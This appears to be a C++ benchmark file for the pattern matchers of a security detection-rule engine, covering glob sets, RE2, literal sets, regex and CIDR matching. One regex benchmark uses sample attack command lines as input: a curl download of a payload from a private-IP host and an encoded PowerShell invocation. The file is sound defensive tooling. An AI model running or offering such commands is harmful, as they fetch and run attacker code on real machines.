// Matcher micro-benchmarks: 2,600-pattern wildcard lists (PatternSet vs one-by-one vs RE2::Set), single
// glob shapes, the pathological "*a*a*a*a*a*b" on 1 MB, case folding, literal sets, regex and CIDR.
#include <benchmark/benchmark.h>
#include <re2/re2.h>
#include <re2/set.h>

#include <cctype>
#include <fstream>
#include <random>
#include <sstream>
#include <string>
#include <vector>

#include "matchers/cidr.hpp"
#include "matchers/glob.hpp"
#include "matchers/literal_set.hpp"
#include "matchers/lucene_regex.hpp"
#include "matchers/pattern_set.hpp"
#include "text/casefold.hpp"

namespace {

using namespace eqlc::matchers;

// The largest `field : (...)` list of the detection rule with 2,600 dll names; generated paths otherwise.
std::vector<std::string> rule_patterns() {
    std::ifstream in(std::string(EQLC_SHARED_DIR) +
                     "/corpus/detection-rules/queries/fb01d790-9f74-4e76-97dd-b4b0f7bf6435.eql");
    std::stringstream ss;
    ss << in.rdbuf();
    const std::string text = ss.str();
    std::vector<std::string> best;
    for (std::size_t at = text.find(": ("); at != std::string::npos; at = text.find(": (", at + 1)) {
        std::vector<std::string> list;
        std::size_t i = at + 3;
        for (;;) {
            while (i < text.size() && (std::isspace(static_cast<unsigned char>(text[i])) || text[i] == ',')) ++i;
            if (i >= text.size() || text[i] != '"') break;
            std::string s;
            for (++i; i < text.size() && text[i] != '"'; ++i) {
                if (text[i] == '\\' && i + 1 < text.size()) ++i;
                s.push_back(text[i]);
            }
            ++i;
            list.push_back(std::move(s));
        }
        if (list.size() > best.size()) best = std::move(list);
    }
    if (best.size() < 2600) {
        std::mt19937 rng(1);
        while (best.size() < 2600) best.push_back("lib" + std::to_string(rng() % 100000) + ".dll");
    }
    return best;
}

// A mixed list in the style of path exclusions: every shape, 2,600 patterns.
std::vector<std::string> path_patterns() {
    std::mt19937 rng(2);
    const char* dirs[] = {"Windows", "Program Files", "Users", "Temp", "AppData", "System32", "ProgramData"};
    std::vector<std::string> out;
    while (out.size() < 2600) {
        const std::string d = dirs[rng() % 7];
        const std::string n = "tool" + std::to_string(rng() % 100000);
        switch (rng() % 5) {
            case 0: out.push_back("?:\\" + d + "\\*\\" + n + ".exe"); break;
            case 1: out.push_back("*\\" + n + ".dll"); break;
            case 2: out.push_back("c:\\" + d + "\\" + n + "\\*"); break;
            case 3: out.push_back("*" + n + "*"); break;
            default: out.push_back("c:\\" + d + "\\" + n + ".exe"); break;
        }
    }
    return out;
}

std::vector<std::string> dll_values() {
    return {"kernel32.dll",      "ADVAPI32.dll", "notinthelist_at_all.dll",
            "WS2_32.DLL",        "evil.dll",     "C:\\Windows\\System32\\ntdll.dll",
            "aadauthhelper.dll", "zipfldr.dll"};
}

std::vector<std::string> path_values() {
    return {"C:\\Windows\\System32\\svchost.exe", "C:\\Users\\bob\\AppData\\Local\\Temp\\tool12345.exe",
            "D:\\Program Files\\Vendor\\app\\bin\\x64\\updater.exe", "c:\\temp\\a.dll",
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2301.6-0\\MsMpEng.exe"};
}

void run_values(benchmark::State& state, const std::vector<std::string>& values, auto&& match) {
    std::size_t i = 0;
    std::size_t hits = 0;
    for (auto _ : state) {
        hits += match(values[i]) ? 1 : 0;
        i = i + 1 == values.size() ? 0 : i + 1;
    }
    benchmark::DoNotOptimize(hits);
    state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
}

void BM_PatternSet_RuleList(benchmark::State& state) {
    const PatternSet set = PatternSet::compile(rule_patterns(), true);
    run_values(state, dll_values(), [&](const std::string& v) { return set.matches(v); });
    state.counters["patterns"] = static_cast<double>(set.size());
}
BENCHMARK(BM_PatternSet_RuleList);

void BM_PatternSet_PathList(benchmark::State& state) {
    const PatternSet set = PatternSet::compile(path_patterns(), true);
    run_values(state, path_values(), [&](const std::string& v) { return set.matches(v); });
}
BENCHMARK(BM_PatternSet_PathList);

void BM_OneByOne_PathList(benchmark::State& state) {
    std::vector<Glob> globs;
    for (const auto& p : path_patterns()) globs.push_back(Glob::compile(p, true));
    run_values(state, path_values(), [&](const std::string& v) {
        const std::string folded = eqlc::text::to_lower_root(v);
        for (const auto& g : globs) {
            if (g.matches_folded(folded)) return true;
        }
        return false;
    });
}
BENCHMARK(BM_OneByOne_PathList);

// The alternative design: every pattern translated to a regex in one RE2::Set (values folded first).
void BM_RE2Set_PathList(benchmark::State& state) {
    RE2::Options opt;
    opt.set_encoding(RE2::Options::EncodingLatin1);
    opt.set_dot_nl(true);
    opt.set_max_mem(256 << 20);
    opt.set_log_errors(false);
    RE2::Set set(opt, RE2::ANCHOR_BOTH);
    for (const auto& p : path_patterns()) set.Add(glob_to_re2_latin1(eqlc::text::to_lower_root(p)), nullptr);
    if (!set.Compile()) {
        state.SkipWithError("RE2::Set compile failed");
        return;
    }
    run_values(state, path_values(), [&](const std::string& v) {
        const std::string folded = eqlc::text::to_lower_root(v);
        return set.Match(folded, nullptr);
    });
}
BENCHMARK(BM_RE2Set_PathList);

void BM_PatternSet_Compile(benchmark::State& state) {
    const auto patterns = path_patterns();
    for (auto _ : state) benchmark::DoNotOptimize(PatternSet::compile(patterns, true));
}
BENCHMARK(BM_PatternSet_Compile)->Unit(benchmark::kMillisecond);

void BM_GlobShape(benchmark::State& state, const char* pattern) {
    const Glob g = Glob::compile(pattern, true);
    run_values(state, path_values(), [&](const std::string& v) { return g.matches(v); });
}
BENCHMARK_CAPTURE(BM_GlobShape, exact, "c:\\windows\\system32\\svchost.exe");
BENCHMARK_CAPTURE(BM_GlobShape, prefix, "c:\\windows\\*");
BENCHMARK_CAPTURE(BM_GlobShape, suffix, "*.exe");
BENCHMARK_CAPTURE(BM_GlobShape, contains, "*\\appdata\\*");
BENCHMARK_CAPTURE(BM_GlobShape, prefix_suffix, "c:\\*.exe");
BENCHMARK_CAPTURE(BM_GlobShape, general, "?:\\users\\*\\appdata\\*\\tool*.exe");

void BM_Glob_Pathological1MB(benchmark::State& state) {
    const std::string big(1 << 20, 'a');
    const Glob g = Glob::compile("*a*a*a*a*a*b", false);
    for (auto _ : state) benchmark::DoNotOptimize(g.matches(big));
    state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) * static_cast<std::int64_t>(big.size()));
}
BENCHMARK(BM_Glob_Pathological1MB)->Unit(benchmark::kMicrosecond);

void BM_Glob_Pathological1MB_Middle(benchmark::State& state) {
    // The suffix check cannot short-cut this one: each middle part is searched over the whole value.
    const std::string big(1 << 20, 'a');
    const Glob g = Glob::compile("*a*a*a*a*a*ab*", false);
    for (auto _ : state) benchmark::DoNotOptimize(g.matches(big));
    state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) * static_cast<std::int64_t>(big.size()));
}
BENCHMARK(BM_Glob_Pathological1MB_Middle)->Unit(benchmark::kMicrosecond);

void BM_Casefold(benchmark::State& state, const char* text) {
    std::string out;
    for (auto _ : state) {
        out.clear();
        eqlc::text::append_lower_root(text, out);
        benchmark::DoNotOptimize(out.data());
    }
}
BENCHMARK_CAPTURE(BM_Casefold, ascii_path, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE");
BENCHMARK_CAPTURE(BM_Casefold, greek_cyrillic, "ΟΔΟΣ ΠΡΙΒΕΤ Мир Ελληνικά");

void BM_LiteralSet_In(benchmark::State& state) {
    const LiteralSet set = LiteralSet::compile(rule_patterns(), true);
    run_values(state, dll_values(), [&](const std::string& v) { return set.contains(v); });
}
BENCHMARK(BM_LiteralSet_In);

void BM_Regex_RuleStyle(benchmark::State& state) {
    auto r = RegexMatcher::compile(".*[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}.*", false);
    const auto& m = std::get<RegexMatcher>(r);
    const std::vector<std::string> values = {"curl -o /tmp/x http://10.1.2.3:8080/payload",
                                             "powershell -enc AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"};
    run_values(state, values, [&](const std::string& v) { return m.matches(v); });
}
BENCHMARK(BM_Regex_RuleStyle);

void BM_Cidr_Private(benchmark::State& state) {
    auto r = CidrSet::compile({"10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8", "::1", "fe80::/10",
                               "fc00::/7", "169.254.0.0/16", "100.64.0.0/10", "224.0.0.0/4"});
    const auto& set = std::get<CidrSet>(r);
    const std::vector<std::string> values = {"8.8.8.8", "10.1.2.3", "2001:4860:4860::8888", "fe80::1ff:fe23:4567:890a"};
    run_values(state, values, [&](const std::string& v) { return set.contains(v); });
}
BENCHMARK(BM_Cidr_Private);

}  // namespace
